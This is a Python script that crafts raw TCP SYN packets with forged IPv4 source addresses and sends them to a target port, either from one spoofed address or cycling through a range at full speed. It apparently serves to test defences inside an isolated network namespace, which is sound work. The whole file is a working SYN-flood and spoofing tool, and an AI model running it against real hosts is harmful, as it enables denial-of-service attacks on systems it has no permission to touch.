"""Bare TCP SYNs with a forged IPv4 source, as a blind attacker sends them; run inside a
namespace: ``python spoof.py SRC DST PORT COUNT [SOURCES]``: COUNT SYNs from SRC, or from
SOURCES consecutive addresses starting at SRC in turn (then as fast as it can).  Needs a
raw socket (root there)."""

from __future__ import annotations

import ipaddress
import random
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def syn(src: str, dst: str, sport: int, dport: int) -> bytes:
    tcp = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0, 5 << 4, 0x02,
                      64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64,
                     6, 0, socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main(src: str, dst: str, port: int, count: int, sources: int = 1) -> None:
    first = int(ipaddress.IPv4Address(src))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        for number in range(count):
            source = str(ipaddress.IPv4Address(first + number % sources))
            sock.sendto(syn(source, dst, random.randint(20000, 60000), port), (dst, 0))
            if sources == 1:
                time.sleep(0.05)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]),
         *(int(arg) for arg in sys.argv[5:6]))
